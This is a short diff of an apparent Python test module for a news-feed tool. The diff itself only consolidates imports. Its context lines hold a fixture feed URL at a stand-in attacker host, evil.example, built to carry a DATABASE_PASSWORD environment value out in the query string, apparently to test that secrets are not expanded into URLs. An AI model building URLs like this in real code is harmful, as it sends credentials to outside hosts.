@@ -9,8 +9,7 @@ from newsportal.discovery.opml import read
 from newsportal.discovery.search import find
 from newsportal.items import Page
 from newsportal.sources import Sources, load
-from newsportal.trying.entries import entry, planned
-from newsportal.trying.proposing import write
+from newsportal.trying.proposing import entry, planned, write
 
 FEED = "https://evil.example/feed?x=${DATABASE_PASSWORD}"
 ENVIRON = {"DATABASE_PASSWORD": "geheim"}
